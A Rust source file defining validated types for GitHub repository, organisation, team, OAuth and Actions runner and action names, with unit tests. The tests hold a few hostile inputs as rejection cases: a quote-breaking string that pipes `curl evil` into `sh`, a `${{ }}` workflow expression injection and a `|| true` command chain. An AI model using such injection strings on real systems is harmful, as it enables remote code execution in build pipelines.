//! Names in GitHub and GitHub Actions.

use super::shape::shape;

/// A username or organisation: at most 39 letters, digits and single inner hyphens (according to GitHub's form for a
/// new organisation), and the suffix `_company` of managed users' logins.
macro_rules! owner {
    () => {
        r"[A-Za-z0-9](?:[-_]?[A-Za-z0-9]){0,38}"
    };
}

shape!(
    /// A repository on GitHub.
    GithubRepository, "a GitHub repository, `owner/name`,", "example/course",
    concat!("^", owner!(), r"/[A-Za-z0-9._-]{1,100}$"),
    |text| !text.split('/').any(|part| part == "." || part == ".." || part.rsplit_once('.').is_some_and(|(_, end)| end == "git"))
);

shape!(
    /// An organisation on GitHub.
    GithubOrganization, "a GitHub organisation", "example-university", concat!("^", owner!(), "$")
);

shape!(
    /// A team on GitHub, as `organisation:team`, with the team's name from its URL.
    GithubTeam, "a GitHub team, `organisation:team` as in the team's URL,", "example-university:instructors",
    concat!("^", owner!(), r":[a-z0-9][a-z0-9_-]{0,99}$")
);

shape!(
    /// An OAuth scope of GitHub.
    OauthScope, "an OAuth scope", "read:org", r"^[a-z][a-z_]*(?::[a-z_]+)*$"
);

shape!(
    /// The public ID of an OAuth app.
    ClientId, "an OAuth client ID of letters, digits, `.`, `_` and `-`,", "Ov23liExample",
    r"^[A-Za-z0-9][A-Za-z0-9._-]{0,127}$"
);

shape!(
    /// The label of a runner of GitHub Actions.
    RunnerLabel, "a runner label", "ubuntu-24.04", r"^[A-Za-z0-9][A-Za-z0-9._-]{0,99}$"
);

shape!(
    /// An action that a workflow uses; a rule checks whether it is pinned.
    ActionReference, "an action, `owner/name@version`,", "actions/checkout@v5",
    r"^(?:\./)?[A-Za-z0-9_.-]+(?:/[A-Za-z0-9_.-]+)*(?:@[A-Za-z0-9_./-]+)?$"
);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_of_github_are_taken_and_others_refused() {
        for name in ["example/course", "a/b.c_d-e", "octocat_acme/x"] {
            assert!(name.parse::<GithubRepository>().is_ok(), "{name}");
        }
        for name in
            ["course", "https://github.com/example/course", "-a/b", "a--b/c", "a/..", "a/b.git", "a/b/c", "a/${{ b }}"]
        {
            assert!(name.parse::<GithubRepository>().is_err(), "{name}");
        }
        assert!("example:staff".parse::<GithubTeam>().is_ok());
        assert!("staff".parse::<GithubTeam>().is_err());
        assert!("example:Teaching Staff".parse::<GithubTeam>().is_err());
        assert!("a'; curl evil | sh".parse::<GithubOrganization>().is_err());
        assert!("ubuntu-24.04 || true".parse::<RunnerLabel>().is_err());
    }
}
